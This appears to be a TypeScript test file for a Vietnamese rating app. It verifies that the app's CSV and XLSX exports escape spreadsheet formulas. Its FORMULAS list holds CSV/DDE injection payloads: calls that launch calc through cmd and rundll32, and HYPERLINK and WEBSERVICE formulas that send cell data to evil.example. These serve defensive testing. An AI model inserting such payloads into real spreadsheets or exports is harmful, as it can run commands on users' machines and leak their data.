import { parse } from 'csv-parse/sync'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { doorName } from '../src/access/doors.ts'
import { createApp } from '../src/app.ts'
import { csvText } from '../src/http/csv.ts'
import { plainLine } from '../src/values/line.ts'
import { addressesOf, doorsOf } from './support/doors.ts'
import { EVERYDAY, type Furnished, inWardA, openFurnished } from './support/furnished.ts'

// biome-ignore format: a list reads as a list
const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1;1)', '=', '+', '-', '@', '==1', '=-1', '-@x', '+=1', '-=1',
  '=SUM(A1:A9)', '=A1&B1', '=2+5+cmd|\' /C calc\'!A0', '=cmd|\'/C calc\'!A1', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"x")', '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe\'!A', '=rundll32|\'URL.dll,OpenURL calc.exe\'!A',
  '=HYPERLINK("http://evil.example?x="&A1;"Bấm vào đây")', '=HYPERLINK("http://evil.example","x")', '+HYPERLINK("http://evil.example")',
  '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")', '=IMPORTDATA("http://evil.example")', '=IMAGE("http://evil.example/x.png")', '=IMPORTRANGE("x";"A1")',
  '=INDIRECT("A1")', '=EXEC("calc")', '=CALL("urlmon";"URLDownloadToFileA")', '=REGISTER.ID("x";"y")', '=FILTERXML("<a/>";"//a")', '=RTD("x";;"y")',
  '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '"=1+1"', "'=1+1", '="1"&"2"', '=1+1\t=2', '=1+1\r=2', '=1+1\n=2', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\0=1+1', '%0A=1+1', '\\t=1+1',
  'Lan;=1+1', 'Lan; =1+1', 'Lan,=1+1', 'Lan;+84912345678', 'Lan|=1+1', 'Lan\t=1+1', 'Lan";=1+1', 'Lan";"=1+1', '";=1+1;"', 'Lan\r\n=1+1', 'Hộ tịch; -Chứng thực',
]
const LOOKS_LIKE_ONE = /^\s*[=+\-@＝＋－＠\t\r]/
/** A number is no formula, not even below zero. */
const isFormula = (cell: string) => LOOKS_LIKE_ONE.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell)

/** The cells as programs find them that split at commas, at semicolons (Excel in Viet Nam), at all there is (LibreOffice). */
const READERS: Readonly<Record<string, (text: string) => string[][]>> = {
  'splits at commas': (text) => parse(text, { bom: true, relax_column_count: true }),
  'splits at semicolons': (text) => text.split(/\r?\n|\r/).map((line) => line.split(';').map(unquoted)),
  'splits at all there is, outside quotes': (text) =>
    parse(text, { bom: true, delimiter: [',', ';', '\t'], relax_column_count: true, relax_quotes: true }),
  'knows no quotes': (text) => text.split(/[\r\n;\t]/).map((part) => [part]),
}
/** Without the apostrophes, those that were typed as well. */
const bare = (text: string | undefined) => text?.replaceAll("'", '')
const unquoted = (cell: string) => cell.replace(/^\ufeff?"?|"$/g, '')

describe('a file of ours for spreadsheets', () => {
  test.each(Object.keys(READERS))('holds no formula for a program that %s', (reader) => {
    const cells = READERS[reader]?.(csvText(FORMULAS.map((text, at) => [text, at, -at, 0.5, text]))).flat() ?? []
    expect(cells.filter(isFormula)).toEqual([])
    expect(cells.length).toBeGreaterThan(FORMULAS.length)
  })

  test('can be read as it was written: an apostrophe more, and numbers are numbers', () => {
    const rows: string[][] = parse(csvText([...FORMULAS.map((text, at) => [text, -at, 0.5]), ['Trần Thị Lan', 1, 2]]), {
      bom: true,
    })
    expect(rows.map(([text]) => bare(text))).toEqual([...FORMULAS, 'Trần Thị Lan'].map(bare))
    expect(rows.map(([, n, half]) => [Number(n), Number(half)])).toEqual([
      ...FORMULAS.map((_, at) => [0 - at, 0.5]),
      [1, 2],
    ])
  })
})

describe(`${FORMULAS.length} formulas as names`, () => {
  let it: Furnished
  const files: { path: string; type: string; body: Buffer }[] = []

  beforeAll(async () => {
    it = await openFurnished({ ...EVERYDAY, lines: [...new Set(FORMULAS.map(plainLine))] })
    const { app } = createApp(it.world)
    const sheets = new Set(app.routes.filter(({ path }) => path.includes('\\.csv')).map(doorName))
    for (const door of doorsOf(app).filter(({ method }) => method === 'GET')) {
      for (const path of addressesOf(door, it.there)) {
        files.push(...(await fetched(path)), ...(sheets.has(door.name) ? await fetched(`${path}.csv`) : []))
      }
    }
  })
  afterAll(() => it?.close())

  async function fetched(path: string) {
    const answer = await it
      .as('quan.tri')
      .get(inWardA(path))
      .buffer(true)
      .parse((sent, done) => {
        const parts: Buffer[] = []
        sent.on('data', (part: Buffer) => parts.push(part)).on('end', () => done(null, Buffer.concat(parts)))
      })
    const type = String(answer.headers['content-type'])
    const listed = /href="(data:text\/csv;[^"]*)"/.exec(String(answer.body))?.[1]
    const inside = listed
      ? [{ path: `${path}#`, type: 'text/csv', body: Buffer.from(listed.split(',')[1] ?? '', 'base64') }]
      : []
    return [{ path, type, body: answer.body as Buffer }, ...inside]
  }

  test('are formulas in none of the files that any door gives out', async () => {
    const csv = files.filter(({ type }) => type.startsWith('text/csv'))
    expect(csv.map(({ path }) => path)).toEqual(
      expect.arrayContaining(['/api/reports/wards/99101.csv', `/api/reports/officers/${it.cast.lan}.csv`]),
    )
    for (const { path, body } of csv) {
      for (const [how, read] of Object.entries(READERS))
        expect([path, how, ...read(body.toString()).flat().filter(isFormula)]).toEqual([path, how])
    }
    const sheets = files.filter(({ type }) => type.includes('spreadsheetml'))
    expect(sheets.length).toBeGreaterThan(0)
    for (const { path, body } of sheets) {
      const { sheets: read } = await readXlsx(body)
      const cells = read.flatMap((sheet) => sheet.rows.flat().map(String))
      expect([path, ...cells.filter(isFormula)]).toEqual([path])
      expect(read.flatMap((sheet) => [...(sheet.cells?.values() ?? [])]).filter(({ formula }) => formula)).toEqual([])
    }
  })

  test('stand in the report as they were typed, beside figures that are numbers', () => {
    const report = files.find(({ path }) => path.endsWith('/wards/99101.csv'))?.body.toString() ?? ''
    const rows: Record<string, string>[] = parse(report, { bom: true, columns: true })
    const names = new Set(rows.map((row) => bare(row.Tên)))
    const kept = [...new Set(FORMULAS.map(plainLine))].map((name) => bare(name))
    expect(kept.filter((name) => !names.has(name))).toEqual([])
    // Scales and programmes count other things than ratings, in columns of their own.
    const ofRatings = rows.filter((row) => !/^(Chương trình|Thang đo)/.test(row.Về ?? ''))
    const figures = ofRatings.map((row) => row['Số đánh giá (n)']).filter((n) => n !== '< 10' && n !== '≥ 10')
    expect(figures.filter((n) => !/^\d+$/.test(n ?? ''))).toEqual([])
    expect(figures.length).toBeGreaterThan(50)
  })
})
